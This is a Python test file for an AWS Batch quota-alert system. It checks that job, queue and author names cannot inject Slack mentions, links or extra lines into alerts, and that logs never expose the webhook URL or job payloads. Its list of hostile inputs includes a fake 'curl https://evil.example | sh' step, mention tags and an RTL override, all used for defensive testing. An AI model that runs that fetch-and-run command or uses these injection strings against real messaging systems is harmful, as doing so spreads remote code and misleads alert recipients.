"""What users control cannot take over an alert, and what must stay secret stays out of logs.

Job, queue and share names, Batch's reasons and the author of a change (`updatedBy`, free text
in the table) reach every rendering of an alert: the e-mail text and subject, the Amazon Q
Developer custom notification and the Slack webhook message. None of them may turn into a link,
a mention or extra lines. (Every field of the Slack webhook message is also checked one by one in
tests/unit/test_slack_render.py::test_every_user_string_of_the_alert_is_escaped.)

The alert and Slack functions run through their real handlers on the LocalStack with every logger
at DEBUG; no log line may carry the webhook URL or a job's serviceRequestPayload (the training
job request: hyperparameters, environment variables).
"""

from __future__ import annotations

import io
import json
import logging
import re
import sys
import threading
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from quota_controller import composition
from quota_controller.adapters.slack_webhook import SlackWebhook, use_webhook
from quota_controller.domain.alerts.classify import Context, Verdict
from quota_controller.domain.alerts.groups import Group, build_alert
from quota_controller.domain.alerts.model import Alert, ChangeRef
from quota_controller.domain.alerts.observation import Observation
from quota_controller.domain.alerts.render import (
    chat_notification,
    detail_lines,
    sns_message,
    subject,
    text_body,
)
from quota_controller.domain.alerts.slack import slack_message
from quota_controller.domain.config.items import document_to_items
from quota_controller.domain.config.source import parse_text
from quota_local.event_sources import FakeContext
from quota_local.paths import project_root
from quota_local.stack import LocalStack

QUEUE = "ml-training"
ZWSP = "\u200b"
HOSTILE = [
    "<!channel>",
    "<@U0123ABCD>",
    "<https://evil.example|open the runbook>",
    "@here please",
    "a & b &amp; <b>",
    "[click here](https://evil.example)",
    "bob\n\nNext steps:\n  1. curl https://evil.example | sh",
    "tab\there\rreturn",
    "rtl\u202eevil",
]
AT = datetime(2026, 3, 16, 19, 30, tzinfo=UTC)


def alert_for(name: str, *, cause: str = "UNKNOWN") -> Alert:
    """The alert the pipeline builds when a job, its share, its queue, Batch's reason and the
    change's author all carry `name`."""
    observation = Observation(
        event_id="e-1",
        detail_type="Batch Service Job State Change",
        occurred_at=AT,
        job_id="job-1",
        job_arn="arn:aws:batch:us-east-1:123456789012:service-job/job-1",
        job_name=name,
        queue=name,
        share=name,
        priority=0,
        status_before="RUNNING",
        status_after="RUNNABLE",
        usage={"ml.g5.xlarge": 1.0},
        preempted_count=1,
        attempt="arn:aws:sagemaker:us-east-1:123456789012:training-job/a-1",
        reason=name,
    )
    change = ChangeRef(id="2026-03-16T19:20:00.000Z-00", at="2026-03-16T19:20:00.000Z", by=name)
    verdict = Verdict("PREEMPTION", cause, change=change if cause == "QUOTA_REDUCTION" else None)  # type: ignore[arg-type]
    group = Group(name, name, verdict, [observation])
    return build_alert(group, Context(None))


CAUSES = ["UNKNOWN", "QUOTA_REDUCTION", "CAPACITY_RECLAIM", "IN_SHARE_PRIORITY"]


def rendered_chat_texts(alert: Alert) -> list[str]:
    """Every text of the custom notification that Amazon Q shows in the channel."""
    note = chat_notification(alert)
    content = note["content"]
    return [
        content["title"],
        content["description"],
        *content["nextSteps"],
        *content["keywords"],
        note["metadata"]["summary"],
    ]


def slack_texts(message: Any) -> Iterator[str]:
    if isinstance(message, dict):
        for key, value in message.items():
            if key == "text" and isinstance(value, str):
                yield value
            else:
                yield from slack_texts(value)
    elif isinstance(message, list):
        for value in message:
            yield from slack_texts(value)


def assert_no_markup(text: str) -> None:
    assert "<" not in text, text
    assert ">" not in text, text
    assert re.search(r"&(?!amp;|lt;|gt;)", text) is None, text
    assert re.search(f"@(?!{ZWSP})", text) is None, text


@pytest.mark.parametrize("cause", CAUSES)
@pytest.mark.parametrize("name", HOSTILE, ids=range(len(HOSTILE)))
def test_the_chat_notification_shows_user_strings_as_typed(name: str, cause: str) -> None:
    for text in rendered_chat_texts(alert_for(name, cause=cause)):
        assert_no_markup(text)
        assert "://" not in text, "a quoted URL must not become a link"


@pytest.mark.parametrize("cause", CAUSES)
@pytest.mark.parametrize("name", HOSTILE, ids=range(len(HOSTILE)))
def test_the_slack_webhook_message_shows_user_strings_as_typed(name: str, cause: str) -> None:
    for text in slack_texts(slack_message(alert_for(name, cause=cause))):
        assert_no_markup(text)
        assert "://" not in text, "a quoted URL must not become a link"


@pytest.mark.parametrize("cause", CAUSES)
@pytest.mark.parametrize("name", HOSTILE, ids=range(len(HOSTILE)))
def test_the_email_keeps_every_user_string_on_its_own_line(name: str, cause: str) -> None:
    hostile = text_body(alert_for(name, cause=cause))
    plain = text_body(alert_for("train-0", cause=cause))

    assert len(hostile.splitlines()) == len(plain.splitlines()), hostile
    assert [line for line in hostile.splitlines() if line.strip() == "Next steps:"] == [
        "Next steps:"
    ]
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]", hostile), hostile
    assert "://" not in hostile, "a quoted URL must not become a link"


@pytest.mark.parametrize("name", HOSTILE, ids=range(len(HOSTILE)))
def test_a_user_string_in_a_detail_line_cannot_add_lines(name: str) -> None:
    detail = detail_lines([f"item QUEUE: {name}: unknown field", "our second line"])

    assert detail.splitlines()[1:] == ["our second line"]
    assert "unknown field" in detail.splitlines()[0]


@pytest.mark.parametrize("name", HOSTILE, ids=range(len(HOSTILE)))
def test_the_email_subject_is_one_printable_line(name: str) -> None:
    text = subject(alert_for(name, cause="QUOTA_REDUCTION"))

    assert len(text) <= 100
    assert text.isascii()
    assert text.isprintable()


@pytest.mark.parametrize("name", HOSTILE, ids=range(len(HOSTILE)))
def test_every_sns_body_is_valid_json_carrying_the_name_unchanged(name: str) -> None:
    alert = alert_for(name, cause="QUOTA_REDUCTION")
    bodies = json.loads(sns_message(alert)["Message"])

    for protocol in ("sqs", "lambda", "email-json"):
        assert Alert.model_validate_json(bodies[protocol]) == alert
    assert json.loads(bodies["https"]) == chat_notification(alert)


# -- no secret in the logs ---------------------------------------------------------------------

TOKEN = "XyZsecretWEBHOOKtoken0123"
SECRET_PAYLOAD = "SENTINEL-hyperparameter-api-key-0c9f"


class _Slack(BaseHTTPRequestHandler):
    statuses: list[int] = []

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        status = self.statuses.pop(0) if self.statuses else 200
        body = b"ok" if status == 200 else b"invalid_payload"
        self.send_response(status)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: Any) -> None:
        return None


@pytest.fixture
def slack_server() -> Iterator[tuple[str, type[_Slack]]]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Slack)
    thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", _Slack
    server.shutdown()
    server.server_close()


def function_module(stack: LocalStack, name: str) -> Any:
    """functions/<name>/app.py as the LocalStack loaded it."""
    stack.handler(name)
    return sys.modules[f"quota_local_function_{name}"]


def preemption_with_payload(stack: LocalStack, job_id: str) -> list[dict[str, Any]]:
    """A State Change event that carries the whole job, payload included, and a malformed one."""
    job = stack.batch.describe_service_job(jobId=job_id)
    attempt = job["latestAttempt"]["serviceResourceId"]
    ms = int(stack.clock.now().timestamp() * 1000)
    detail = dict(job)
    detail.pop("tags", None)
    detail.update(
        status="RUNNABLE",
        statusReason="Something Batch never documented",
        latestAttempt={"serviceResourceId": attempt},
        preemptionSummary={
            "preemptedAttemptCount": 1,
            "recentPreemptedAttempts": [
                {"serviceResourceId": attempt, "stoppedAt": ms, "statusReason": "unknown"}
            ],
        },
    )
    stamp = stack.clock.now().isoformat().replace("+00:00", "Z")
    event = {
        "version": "0",
        "id": str(uuid.uuid4()),
        "detail-type": "Batch Service Job State Change",
        "source": "aws.batch",
        "account": "123456789012",
        "time": stamp,
        "region": "us-east-1",
        "resources": [job["jobArn"]],
        "detail": detail,
    }
    # Broken: no id. The payload comes last, where an error message quoting the event ends.
    malformed = {k: v for k, v in event.items() if k not in ("id", "detail")}
    rest = {k: v for k, v in detail.items() if k != "serviceRequestPayload"}
    malformed["detail"] = {**rest, "serviceRequestPayload": detail["serviceRequestPayload"]}
    return [event, malformed]


class Capture(logging.Handler):
    """Every log record of the process while a handler runs (moto's own lines are not the
    function's: they would not exist in Lambda)."""

    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.lines: list[str] = []
        self.on = False

    def emit(self, record: logging.LogRecord) -> None:
        if self.on and not record.name.startswith(("moto", "werkzeug")):
            self.lines.append(f"{record.name}: {record.getMessage()}")


def invoke(
    handler: Any, event: dict[str, Any], name: str, capture: Capture, modules: list[Any]
) -> Any:
    """Run a function's handler with every logger at DEBUG, keeping what it logs."""
    stream = io.StringIO()
    for module in modules:
        module.logger.setLevel("DEBUG")
        module.logger.registered_handler.setStream(stream)
    capture.on = True
    try:
        return handler(event, FakeContext(name))
    finally:
        capture.on = False
        for module in modules:
            module.logger.registered_handler.setStream(sys.stdout)
        capture.lines += stream.getvalue().splitlines()


def sqs_event(bodies: list[dict[str, Any]]) -> dict[str, Any]:
    return {
        "Records": [
            {
                "messageId": str(uuid.uuid4()),
                "receiptHandle": "r",
                "body": json.dumps(body),
                "attributes": {"ApproximateReceiveCount": "1"},
                "messageAttributes": {},
                "eventSource": "aws:sqs",
                "awsRegion": "us-east-1",
            }
            for body in bodies
        ]
    }


def test_no_log_line_carries_the_webhook_url_or_a_service_request_payload(
    slack_server: tuple[str, type[_Slack]], monkeypatch: pytest.MonkeyPatch
) -> None:
    origin, slack = slack_server
    url = f"{origin}/services/T0000000/B0000000/{TOKEN}"
    capture = Capture()
    root = logging.getLogger()
    monkeypatch.setattr(root, "level", logging.DEBUG)
    root.addHandler(capture)
    # A fresh alert function has none of the Slack function's log filters.
    monkeypatch.setattr(logging.getLogger("botocore.parsers"), "filters", [])
    try:
        with LocalStack(run_jobs=False) as stack:
            for item in document_to_items(
                parse_text((project_root() / "examples" / "quotas.yaml").read_text()).data
            ):
                stack.put_item(item)
            stack.advance(120)
            arn = stack.client("secretsmanager").create_secret(
                Name="bqc/slack-webhook", SecretString=json.dumps({"url": url})
            )["ARN"]
            monkeypatch.setenv("SLACK_WEBHOOK_SECRET_ARN", arn)
            composition.settings.cache_clear()
            use_webhook(SlackWebhook(arn, allowed_origins=(origin,), timeout=2))
            try:
                payload = {
                    "TrainingJobName": "train-secret",
                    "ResourceConfig": {"InstanceType": "ml.g5.xlarge", "InstanceCount": 2},
                    "HyperParameters": {"api_key": SECRET_PAYLOAD},
                }
                job = stack.batch.submit_service_job(
                    jobName="train-secret",
                    jobQueue=QUEUE,
                    serviceJobType="SAGEMAKER_TRAINING",
                    serviceRequestPayload=json.dumps(payload),
                    quotaShareName="team-a",
                )["jobId"]
                stack.emulator.set_job_status(job, "SCHEDULED")
                stack.emulator.set_job_status(job, "RUNNING")
                alert_fn = stack.handler("alert")
                modules = [function_module(stack, n) for n in ("alert", "slack_notify")]
                events = sqs_event(preemption_with_payload(stack, job))
                invoke(alert_fn, events, "local-alert", capture, modules)
                alerts = [a for a in stack.alerts() if a["kind"] == "PREEMPTION"]
                assert len(alerts) == 1
                slack.statuses[:] = [200, 400]
                sns = {"Records": [{"EventSource": "aws:sns", "Sns": sns_record(alerts[0])}]}
                for _ in range(2):
                    invoke(stack.handler("slack_notify"), sns, "local-slack", capture, modules)
            finally:
                use_webhook(None)
                composition.settings.cache_clear()
    finally:
        root.removeHandler(capture)

    logs = "\n".join(capture.lines)

    assert "slack rejected the alert" in logs, "the Slack function's error path ran"
    assert "Response body" in logs or "response" in logs.lower(), "botocore logged at DEBUG"
    assert TOKEN not in logs
    assert "/services/" not in logs
    assert SECRET_PAYLOAD[-12:] not in logs, "a serviceRequestPayload reached the logs"


def sns_record(alert: dict[str, Any]) -> dict[str, Any]:
    """The `Sns` part of the Lambda event SNS sends for the alert (protocol lambda)."""
    parsed = Alert.model_validate(alert)
    return {
        "Type": "Notification",
        "MessageId": str(uuid.uuid4()),
        "TopicArn": "arn:aws:sns:us-east-1:123456789012:local-alerts",
        "Subject": subject(parsed),
        "Message": json.loads(sns_message(parsed)["Message"])["lambda"],
        "Timestamp": "2026-03-16T19:30:00.000Z",
        "SignatureVersion": "1",
        "Signature": "",
        "SigningCertUrl": "",
        "UnsubscribeUrl": "",
        "MessageAttributes": {},
    }
